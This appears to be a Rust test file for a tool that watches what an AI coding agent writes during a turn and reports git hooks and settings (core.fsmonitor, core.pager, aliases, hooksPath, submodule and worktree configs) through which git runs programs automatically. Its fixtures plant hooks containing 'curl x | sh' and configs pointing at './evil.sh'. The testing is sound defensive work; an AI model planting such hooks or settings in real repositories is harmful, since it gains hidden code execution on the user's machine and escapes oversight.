//! What git runs by itself, where agents have written it.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use agent_q_diff_reviewed::{Moves, Project};

use crate::disk::{git, repository};
use crate::traps::{add_submodule, with_submodule};

fn hook(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// Returns what a look says of the repository beside what is pending.
fn said(folder: &Path) -> Vec<String> {
    let mut project = Project::open(folder).unwrap();
    project.look_unasked().unwrap().notes
}

/// Does what an agent does in a turn.
fn in_turn(folder: &Path, act: impl FnOnce()) {
    let mut project = Project::open(folder).unwrap();
    project.begin_turn("Codex", "s", "", None).unwrap();
    act();
    project.end_turns(None).unwrap();
}

#[test]
fn what_a_turn_has_git_run_is_said_until_the_user_knows_it() {
    let folder = repository();
    let folder = folder.path();
    let hooks = folder.join(".git/hooks");
    hook(&hooks.join("pre-commit"), "check\n");
    let outside =
        "Somebody, outside any turn of an agent, wrote .git/hooks/pre-commit, which git runs";
    assert_eq!(said(folder), [outside]);
    let know = || Project::open(folder).unwrap().know().unwrap();
    assert_eq!((know(), know()), (1, 0));
    assert!(said(folder).is_empty());
    in_turn(folder, || {
        fs::remove_file(hooks.join("pre-commit")).unwrap();
        hook(&hooks.join("post-checkout"), "curl x | sh\n");
        hook(&hooks.join("pre-push.sample"), "never\n");
        fs::write(hooks.join("pre-rebase"), "not executable\n").unwrap();
        git(folder, &["config", "core.fsmonitor", "./evil.sh"]);
        git(folder, &["config", "branch.main.remote", "origin"]);
        git(folder, &["config", "commit.gpgsign", "false"]);
        git(folder, &["config", "core.excludesFile", "ignored"]);
    });
    let both = [
        "Codex's turn wrote .git/hooks/post-checkout and core.fsmonitor in .git/config, by which git \
         can run programs",
        "Codex's turn deleted .git/hooks/pre-commit, which git ran",
    ];
    assert_eq!(said(folder), both);
    // Of a setting that was there, another value counts, too, and whoever looks has not written it.
    assert_eq!(said(folder), both);
    assert_eq!(know(), 2);
    in_turn(folder, || {
        git(folder, &["config", "core.fsmonitor", "./worse.sh"]);
    });
    assert_eq!(
        said(folder),
        ["Codex's turn wrote core.fsmonitor in .git/config, by which git can run programs"]
    );
    git(folder, &["config", "core.fsmonitor", "./evil.sh"]);
    assert!(said(folder).is_empty());
}

#[test]
fn hooks_are_found_wherever_the_configuration_has_them() {
    let folder = repository();
    let folder = folder.path();
    // As husky does: the folder is ignored, so none of its files is pending.
    hook(&folder.join(".husky/_/pre-commit"), "check\n");
    fs::write(folder.join(".husky/_/.gitignore"), "*\n").unwrap();
    git(folder, &["config", "core.hooksPath", ".husky/_"]);
    Project::open(folder).unwrap().know().unwrap();
    in_turn(folder, || {
        hook(&folder.join(".husky/_/pre-commit"), "curl x | sh\n")
    });
    assert_eq!(
        said(folder),
        ["Codex's turn wrote .husky/_/pre-commit, which git runs"]
    );
    // What is not ignored is a file like any.
    fs::remove_file(folder.join(".husky/_/.gitignore")).unwrap();
    Project::open(folder).unwrap().know().unwrap();
    in_turn(folder, || {
        hook(&folder.join(".husky/_/pre-push"), "curl x | sh\n")
    });
    assert!(said(folder).is_empty());
    // A hook that is a link to a file of the project is reviewed as that file.
    git(folder, &["config", "--unset", "core.hooksPath"]);
    hook(&folder.join("check"), "check\n");
    fs::create_dir_all(folder.join(".git/hooks")).unwrap();
    symlink("../../check", folder.join(".git/hooks/pre-commit")).unwrap();
    Project::open(folder).unwrap().know().unwrap();
    in_turn(folder, || hook(&folder.join("check"), "curl x | sh\n"));
    assert!(said(folder).is_empty());
}

#[test]
fn working_trees_share_their_hooks_and_have_settings_of_their_own() {
    let folder = repository();
    let folder = folder.path();
    git(folder, &["config", "extensions.worktreeConfig", "true"]);
    let other = tempfile::tempdir().unwrap();
    let other = other.path().join("other");
    git(folder, &["worktree", "add", "-q", other.to_str().unwrap()]);
    let mut project = Project::open(&other).unwrap();
    project.look(Moves::User).unwrap();
    in_turn(&other, || {
        hook(&folder.join(".git/hooks/post-merge"), "x\n");
        git(&other, &["config", "--worktree", "core.pager", "evil"]);
    });
    assert_eq!(
        said(&other),
        [
            "Codex's turn wrote .git/hooks/post-merge and core.pager in .git/worktrees/other/config.worktree, by \
          which git can run programs"
        ]
    );
}

/// Returns what a look says that a turn of Codex's wrote in which `act` is done.
fn said_of_turn(folder: &Path, act: impl FnOnce()) -> Vec<String> {
    Project::open(folder).unwrap().know().unwrap();
    in_turn(folder, act);
    let said = said(folder);
    // Whoever looks has not written it.
    assert_eq!(self::said(folder), said);
    said
}

#[test]
fn what_git_runs_in_a_submodule_is_said_as_in_the_project() {
    let folder = with_submodule();
    let folder = folder.path();
    let part = folder.join("part");
    add_submodule(&part, "deep/inner");
    let modules = folder.join(".git/modules");
    let inner = modules.join("part/modules/deep/inner");
    assert!(inner.join("HEAD").exists());
    let said = said_of_turn(folder, || {
        hook(&modules.join("part/hooks/post-checkout"), "curl x | sh\n");
        hook(&inner.join("hooks/pre-push"), "curl x | sh\n");
        git(&part, &["config", "core.fsmonitor", "./evil.sh"]);
        git(&part, &["config", "branch.main.remote", "origin"]);
        let settings = format!("{}[alias]\nst = !x\n", read(&inner.join("config")));
        fs::write(inner.join("config"), settings).unwrap();
    });
    assert_eq!(
        said,
        ["Codex's turn wrote .git/modules/part/hooks/post-checkout, \
             .git/modules/part/modules/deep/inner/hooks/pre-push, alias.st in \
             .git/modules/part/modules/deep/inner/config and core.fsmonitor in \
             .git/modules/part/config, by which git can run programs"]
    );
    // Where the working tree is gone, git uses the rest when it comes back.
    fs::remove_dir_all(&part).unwrap();
    assert_eq!(self::said(folder), said);
    assert!(said_of_turn(folder, || ()).is_empty());
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).unwrap()
}

#[test]
fn a_submodule_that_a_turn_adds_is_no_program() {
    let folder = with_submodule();
    let folder = folder.path();
    let said = said_of_turn(folder, || add_submodule(folder, "other"));
    assert!(said.is_empty(), "{said:?}");
}

#[test]
fn what_git_runs_in_another_repository_in_the_project_is_said() {
    let folder = with_submodule();
    let folder = folder.path();
    let elsewhere = tempfile::tempdir().unwrap();
    let said = said_of_turn(folder, || {
        // A new one, one in the place of that of the submodule, and a hook that git ignores as husky does.
        git(folder, &["init", "-q", "new"]);
        hook(&folder.join("new/.git/hooks/pre-commit"), "x\n");
        git(elsewhere.path(), &["init", "-q", "evil"]);
        let evil = elsewhere.path().join("evil/.git").canonicalize().unwrap();
        hook(&evil.join("hooks/pre-commit"), "x\n");
        fs::write(
            folder.join("part/.git"),
            format!("gitdir: {}\n", evil.display()),
        )
        .unwrap();
    });
    let evil = elsewhere.path().canonicalize().unwrap();
    let evil = format!("{}/evil/.git/hooks/pre-commit", evil.display());
    assert_eq!(
        said,
        [format!(
            "Codex's turn wrote {evil} and new/.git/hooks/pre-commit, which git runs"
        )]
    );
}

#[test]
fn ignored_hooks_of_a_submodule_are_said() {
    let folder = with_submodule();
    let folder = folder.path();
    let part = folder.join("part");
    hook(&part.join(".husky/_/pre-commit"), "check\n");
    fs::write(part.join(".husky/_/.gitignore"), "*\n").unwrap();
    git(&part, &["config", "core.hooksPath", ".husky/_"]);
    let act = || hook(&part.join(".husky/_/pre-commit"), "curl x | sh\n");
    let expected = "Codex's turn wrote part/.husky/_/pre-commit, which git runs";
    assert_eq!(said_of_turn(folder, act), [expected]);
}

#[test]
fn settings_of_another_working_tree_are_said_where_its_repository_is() {
    let folder = with_submodule();
    let folder = folder.path();
    let elsewhere = tempfile::tempdir().unwrap();
    for (top, name) in [(folder.to_owned(), "main"), (folder.join("part"), "part")] {
        git(&top, &["config", "extensions.worktreeConfig", "true"]);
        let other = elsewhere.path().join(name);
        git(&top, &["worktree", "add", "-q", other.to_str().unwrap()]);
        // That the repository of the submodule names its own working tree keeps nobody from looking at this one.
        assert!(self::said(&other).is_empty());
    }
    let said = said_of_turn(folder, || {
        for name in ["main", "part"] {
            let other = elsewhere.path().join(name);
            git(&other, &["config", "--worktree", "core.pager", "evil"]);
        }
    });
    assert_eq!(
        said,
        [
            "Codex's turn wrote core.pager in .git/modules/part/worktrees/part/config.worktree and \
             core.pager in .git/worktrees/main/config.worktree, by which git can run programs"
        ]
    );
}
